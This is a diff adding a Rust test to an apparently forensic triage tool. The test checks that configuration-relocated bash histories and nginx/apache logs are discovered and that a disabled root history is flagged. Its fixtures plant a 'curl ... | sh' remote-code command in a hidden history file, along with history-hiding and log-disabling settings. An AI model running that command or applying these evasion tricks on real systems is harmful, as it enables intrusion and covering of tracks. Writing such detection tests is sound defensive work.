@@ -420,3 +420,41 @@ fn body_file_and_timeline() {
     let bad = snapsift(&["timeline".as_ref(), case.path().as_os_str(), "--from".as_ref(), "yesterday".as_ref()]);
     assert_eq!(bad.code, Some(2));
 }
+
+/// Logs and histories moved by the machine's own configuration are found,
+/// and tagged with how.
+#[test]
+fn config_aware_discovery_follows_histfile_nginx_and_apache() {
+    let root = tempfile::tempdir().unwrap();
+    let r = root.path();
+    let w = |p: &str, s: &str| {
+        let f = r.join(p.trim_start_matches('/'));
+        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+        std::fs::write(f, s).unwrap();
+    };
+    w("/etc/hostname", "conf01\n");
+    w("/etc/os-release", "PRETTY_NAME=\"Test\"\n");
+    w("/etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
+    w("/home/alice/.bashrc", "export HISTFILE=~/.hidden/hist   # keep it out of sight\n");
+    w("/home/alice/.hidden/hist", "curl http://203.0.113.7/x | sh\n");
+    w("/root/.bashrc", "HISTFILE=/dev/null\n");
+    w("/etc/nginx/nginx.conf", "http {\n  include /etc/nginx/conf.d/*.conf;\n}\n");
+    w("/etc/nginx/conf.d/site.conf", "server {\n  access_log /srv/www/logs/site-access.log main;\n  error_log off;\n}\n");
+    w("/srv/www/logs/site-access.log", "GET /\n");
+    w("/srv/www/logs/site-access.log.1.gz", "old\n");
+    w("/srv/www/other.txt", "not a log\n");
+    w("/etc/httpd/conf/httpd.conf", "ServerRoot \"/etc/httpd\"\nCustomLog \"logs/custom_access\" combined\n");
+    w("/etc/httpd/logs/custom_access", "GET /admin\n");
+    let case = tempfile::tempdir().unwrap();
+    let out = extract(&[r], case.path());
+    assert_eq!(out.code, Some(0), "{}", out.stderr);
+    let rows = manifest(case.path());
+    let got = |p: &str| rows.iter().find(|x| x["image_path"] == p && x["status"] == "ok").map(|x| x["target"].clone());
+    assert_eq!(got("/home/alice/.hidden/hist").as_deref(), Some("config:HISTFILE"));
+    assert_eq!(got("/srv/www/logs/site-access.log").as_deref(), Some("config:nginx"));
+    assert_eq!(got("/srv/www/logs/site-access.log.1.gz").as_deref(), Some("config:nginx"));
+    assert_eq!(got("/etc/httpd/logs/custom_access").as_deref(), Some("config:apache"));
+    assert_eq!(got("/srv/www/other.txt"), None);
+    let j = run_json(&runs(case.path())[0]);
+    assert!(j["warnings"].to_string().contains("HISTFILE=/dev/null in /root/.bashrc"), "{}", j["warnings"]);
+}
